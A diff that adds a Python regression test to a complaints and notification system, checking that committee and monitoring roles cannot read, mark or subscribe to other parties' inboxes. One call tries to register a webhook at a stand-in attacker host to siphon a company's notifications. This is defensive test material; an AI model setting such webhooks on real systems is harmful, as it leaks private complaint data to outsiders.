@@ -189,5 +189,47 @@ class PlanDocuments(SharedSystem):
         self.assertEqual((refused[0], refused[1]["code"], refused[1]["field"]), (100, "too_large", "data"), refused)
 
 
+class Inboxes(SharedSystem):
+    SERVICES = ["membership", "complaints", "notify"]
+
+    def test_each_role_reads_and_marks_only_its_own_inboxes(self):
+        """inbox.list and inbox.mark_read let the monitoring committee (and the complaints
+        committee) name any recipient: they read a company's inbox (org:X: its cases, its
+        results) and the secretariat's, and marked their items read. The same went for
+        subscription.put: a committee could add a webhook to a company's inbox and hear
+        everything it hears."""
+        s = self.s
+        co = company(s, "Review Inbox BV", covenant="gold")
+        case = s.ok("complaints", "complaint.submit", {
+            "covenant": "gold", "respondent": co, "summary": "Dust", "description": "No masks.",
+            "complainant": {"anonymous": True}}, actor=False)["case_id"]
+        s.ok("complaints", "complaint.transition", {"case_id": case, "to": "admissibility", "reason": "acknowledged"})
+        mine = "org:" + co
+        self.assertTrue(s.wait_for(lambda: s.ok("notify", "inbox.list", {"recipient": mine}, actor=SEC)["items"]),
+                        s.log("notify")[-2000:])
+        first = s.ok("notify", "inbox.list", {"recipient": mine}, actor=SEC)["items"][0]["event_id"]
+        committee = {"role": "committee"}
+        for actor, recipient in ((MON, mine), (MON, "secretariat:gold"), (MON, "committee:gold"),
+                                 (committee, mine), (committee, "secretariat:gold"), (committee, "monitoring:gold")):
+            for mtype, body in (("inbox.list", {"recipient": recipient}),
+                                ("inbox.mark_read", {"recipient": recipient, "event_ids": [first]}),
+                                ("subscription.list", {"recipient": recipient}),
+                                ("subscription.put", {"recipient": recipient, "channel": "webhook", "lang": "en",
+                                                      "address": "https://attacker.example.org/hook"})):
+                err = s.call("notify", mtype, body, actor=actor)["error"]
+                self.assertEqual((err["code"], err["field"]), ("forbidden", "recipient"), (actor, mtype, recipient, err))
+        self.assertNotIn("https://attacker.example.org/hook", str(s.ok("notify", "subscription.list",
+                                                                      {"recipient": mine}, actor=SEC)))
+        self.assertEqual(s.ok("notify", "inbox.list", {"recipient": mine}, actor=SEC)["unread"],
+                         len(s.ok("notify", "inbox.list", {"recipient": mine}, actor=SEC)["items"]))
+        # Each reads its own, as the console asks: <role>:<covenant>, a company org:<its id>;
+        # the secretariat every inbox.
+        for actor, recipient in ((MON, "monitoring:gold"), (committee, "committee:gold"),
+                                 ({"role": "company", "org": co}, mine), (SEC, mine), (SEC, "committee:gold")):
+            s.ok("notify", "inbox.list", {"recipient": recipient}, actor=actor)
+        s.ok("notify", "inbox.mark_read", {"recipient": "committee:gold", "event_ids": [first]}, actor=committee)
+        s.ok("notify", "inbox.mark_read", {"recipient": mine, "event_ids": [first]}, actor={"role": "company", "org": co})
+
+
 if __name__ == "__main__":
     unittest.main()
